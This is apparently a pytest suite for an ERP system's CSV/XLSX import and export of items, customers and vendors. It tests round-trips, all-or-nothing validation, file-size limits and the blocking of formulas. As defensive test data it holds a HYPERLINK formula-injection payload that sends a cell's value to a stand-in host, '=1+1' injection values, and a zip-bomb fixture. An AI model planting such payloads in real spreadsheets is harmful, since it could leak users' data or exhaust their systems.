"""Customers and items by spreadsheet: out and in again unchanged, all or nothing, no formulas."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from erp.errors import CardError
from erp.exchange import Answer, read_cards, write_cards
from erp.exchange.cells import text
from erp.exchange.sheets import read_sheet, write_sheet
from erp.models import Company, Item, Party
from tests.erp.makers import D, books, make_customer, make_item, make_stock, make_vendor

BOTH = pytest.mark.parametrize("ending", ["csv", "xlsx"])
EVIL = '=HYPERLINK("https://example.org?"&A1,"Open")'


@pytest.fixture
def given_cards(given_a_company: Company) -> Company:
    make_item(given_a_company, "LAMP", unit_price=D("19.99"), gtin="0012345678905")
    item = Item.objects.get(no="LAMP")
    item.description, item.units, item.sales_uom = EVIL, {"BOX": "12", "KG": "0.25"}, "BOX"
    item.blocked = True
    item.save()
    for no in ("V1", "V2"):
        make_vendor(given_a_company, no, phone="+47 1", vat_registration_no="NO 1")
    make_customer(given_a_company, "C2", phone="+47 12 34 56 78", email="@b.example")
    Party.objects.filter(no="C2").update(name="Ærlig & Sønn; “AS”, \n Oslo", city="'=1+1")
    return given_a_company


def table(path: Path, *rows: list[Any]) -> Path:
    """A file as a person makes it."""
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, delimiter=";").writerows(rows)
        return path
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def cards() -> list[Any]:
    return [list(Item.objects.order_by("pk").values()), list(Party.objects.order_by("pk").values())]


@BOTH
@pytest.mark.parametrize("what", ["items", "customers", "vendors"])
def test_what_goes_out_comes_back_unchanged(
    given_cards: Company, tmp_path: Path, ending: str, what: str
) -> None:
    path, before = tmp_path / f"cards.{ending}", cards()

    assert write_cards(given_cards, what, path) == 2
    assert read_cards(given_cards, what, path) == Answer(unchanged=2)
    assert cards() == before
    assert [left.name for left in tmp_path.iterdir()] == [path.name]


@BOTH
def test_into_empty_books_the_same_cards_are_made(
    given_cards: Company, tmp_path: Path, ending: str
) -> None:
    path, again = tmp_path / f"items.{ending}", tmp_path / f"again.{ending}"
    write_cards(given_cards, "items", path)
    Item.objects.filter(no="LAMP").delete()

    answer = read_cards(given_cards, "items", path)

    assert (answer.created, answer.unchanged, answer.mistakes) == (1, 1, [])
    write_cards(given_cards, "items", again)
    assert read_sheet(again) == read_sheet(path)


def test_no_cell_becomes_a_formula(given_cards: Company, tmp_path: Path) -> None:
    write_cards(given_cards, "items", tmp_path / "items.csv")
    write_cards(given_cards, "items", tmp_path / "items.xlsx")

    with (tmp_path / "items.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[1]["description"] == f"'{EVIL}"
    assert rows[1]["gtin"] == "0012345678905"
    sheet = load_workbook(tmp_path / "items.xlsx").active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert (cells[EVIL].data_type, cells[EVIL].quotePrefix) == ("s", True)
    assert cells[19.99].data_type == "n"
    assert (
        "<f>"
        not in zipfile.ZipFile(tmp_path / "items.xlsx").read("xl/worksheets/sheet1.xml").decode()
    )


@BOTH
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    rows=st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff")),
        min_size=1,
    )
)
def test_any_text_comes_back_as_it_was(tmp_path: Path, ending: str, rows: list[str]) -> None:
    path, columns = tmp_path / f"any.{ending}", [text("a", 1), text("b", 1)]
    write_sheet(path, columns, [[cell, "x"] for cell in rows])
    assert read_sheet(path) == [["a", "b"], *[[cell, "x"] for cell in rows]]


@BOTH
def test_rows_create_and_change(given_cards: Company, tmp_path: Path, ending: str) -> None:
    path = table(
        tmp_path / f"items.{ending}",
        ["No", "Description", "unit_price", "blocked", "units"],
        ["lamp", "A lamp", "25.5", "no", "BOX=10"],
        ["", "New one", "", "", "BOX=6"],
        ["", "", "", "", ""],
    )

    assert read_cards(given_cards, "items", path) == Answer(created=1, changed=1)
    lamp, new = Item.objects.get(no="LAMP"), Item.objects.get(description="New one")
    assert (lamp.unit_price, lamp.blocked, lamp.gtin) == (D("25.5"), False, "0012345678905")
    assert (new.no, new.units, new.unit_price) == ("I000001", {"BOX": "6"}, D(0))


def test_numbers_and_flags_of_a_spreadsheet_are_understood(
    given_cards: Company, tmp_path: Path
) -> None:
    path = table(
        tmp_path / "items.xlsx",
        ["no", "gtin", "unit_price", "blocked"],
        [4711, 12345678, 0.1, True],
    )
    read_cards(given_cards, "items", path)
    item = Item.objects.get(no="4711")
    assert (item.gtin, item.unit_price, item.blocked) == ("12345678", D("0.1"), True)


MISTAKES = [
    ["no", "description", "unit_price", "type", "blocked", "category", "colour"],
    ["A1", "Fine", "1", "inventory", "no", "", ""],
    ["A2", "x" * 101, "1,50", "odd", "maybe", "", ""],
    ["A1", "Twice", "1", "", "", "", ""],
    ["A3", "Unknown category", "1", "", "", "NONE", ""],
]


@BOTH
def test_all_mistakes_are_told_and_nothing_is_written(
    given_cards: Company, tmp_path: Path, ending: str
) -> None:
    path, before, counted = table(tmp_path / f"x.{ending}", *MISTAKES), cards(), books(given_cards)

    dry = read_cards(given_cards, "items", path, dry_run=True)
    real = read_cards(given_cards, "items", path)

    assert dry == real
    assert (cards(), books(given_cards)) == (before, counted)
    assert [(one.row, one.column) for one in real.mistakes] == [
        (1, "colour"),
        (3, "description"),
        (3, "unit_price"),
        (3, "type"),
        (3, "blocked"),
        (4, "no"),
        (5, "category"),
    ]
    said = " ".join(one.sentence for one in real.mistakes)
    assert "There is no column “colour”" in said
    assert "“1,50” is no number: write it like 1234.50." in said
    assert "A1 stands in the file twice." in said


def test_a_dry_run_says_what_the_real_one_says_and_writes_nothing(
    given_cards: Company, tmp_path: Path
) -> None:
    path = table(tmp_path / "c.csv", ["name", "city"], ["Ann", "Oslo"], ["Bo", "Turku"])
    before = books(given_cards)

    dry = read_cards(given_cards, "customers", path, dry_run=True)
    assert books(given_cards) == before
    assert Party.objects.filter(kind="customer").count() == 2
    assert read_cards(given_cards, "customers", path) == dry == Answer(created=2)
    assert Party.objects.filter(name="Bo", city="Turku", no="C000002").exists()


def test_an_item_with_entries_keeps_its_unit_here_too(given_cards: Company, tmp_path: Path) -> None:
    """I19."""
    make_stock(given_cards, ("A", 1, 1))
    path = table(tmp_path / "i.csv", ["no", "base_uom"], ["A", "BOX"])

    [mistake] = read_cards(given_cards, "items", path).mistakes

    assert mistake.sentence.endswith("its type and base unit cannot change.")


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.txt", b"no", "must end in .csv or .xlsx"),
        ("a.xlsx", b"no zip", "is no XLSX"),
        ("a.csv", b"no\xff", "not in UTF-8"),
        ("a.csv", b"", "is empty"),
        ("a.csv", b'no,description\n"A', "is no CSV"),
        ("a.csv", b"no\n" * 100_001, "more than 100000 rows"),
        ("a.csv", b"\n" * (20 * 2**20 + 1), "larger than 20 MB"),
    ],
)
def test_what_is_no_such_file_is_refused(
    given_cards: Company, tmp_path: Path, name: str, content: bytes, sentence: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CardError, match=sentence):
        read_cards(given_cards, "items", path)
    with pytest.raises(CardError, match="No such file"):
        read_cards(given_cards, "items", tmp_path / "none.csv")


def test_a_formula_in_a_file_is_refused(given_cards: Company, tmp_path: Path) -> None:
    path = table(tmp_path / "a.xlsx", ["no", "unit_price"], ["A", "=1+1"])
    with pytest.raises(CardError, match="Cell B2 holds a formula"):
        read_cards(given_cards, "items", path)


def test_a_small_file_that_holds_too_much_is_refused(given_cards: Company, tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/sharedStrings.xml", b" " * (201 * 2**20))
    assert path.stat().st_size < 2**20
    with pytest.raises(CardError, match="larger than 20 MB"):
        read_cards(given_cards, "items", path)


def test_vendors_are_made_and_changed_beside_customers_of_the_same_number(
    given_a_company: Company, tmp_path: Path
) -> None:
    make_vendor(given_a_company, "C1")
    path = table(
        tmp_path / "vendors.csv",
        ["no", "name", "payment_method", "vat_bus"],
        ["C1", "Mill", "", "DOMESTIC"],
        ["", "Forge", "", "domestic"],
    )

    answer = read_cards(given_a_company, "vendors", path)

    assert (answer.created, answer.changed, answer.mistakes) == (1, 1, [])
    vendors = Party.objects.filter(kind="vendor").order_by("name")
    assert [(one.no, one.name) for one in vendors] == [("V000001", "Forge"), ("C1", "Mill")]
    assert Party.objects.get(kind="customer").name == "Ada Lovelace"


def test_a_vat_group_without_any_rate_is_a_mistake_of_its_cell(
    given_a_company: Company, tmp_path: Path
) -> None:
    parties = table(tmp_path / "c.csv", ["no", "name", "vat_bus"], ["C7", "Mill", "DOMESTCI"])
    items = table(tmp_path / "i.csv", ["no", "vat_prod"], ["A", "STANDRAD"])

    for what, path, column in (("vendors", parties, "vat_bus"), ("items", items, "vat_prod")):
        (mistake,) = read_cards(given_a_company, what, path).mistakes
        assert (mistake.row, mistake.column) == (2, column)
    assert not Party.objects.filter(no="C7").exists()
